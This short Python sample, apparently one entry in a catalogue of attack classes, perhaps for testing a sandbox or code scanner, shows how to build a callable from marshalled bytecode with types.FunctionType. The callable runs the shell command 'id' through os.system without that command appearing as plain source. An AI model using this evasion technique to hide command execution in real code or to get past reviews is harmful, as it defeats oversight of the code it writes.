# attack-class: 8
# title: marshal.loads + types.FunctionType
# why: a code object from bytes becomes a callable without any source text

import marshal
import types

blob = marshal.dumps(compile("__import__('os').system('id')", "<x>", "exec"))
fn = types.FunctionType(marshal.loads(blob), {})
fn()
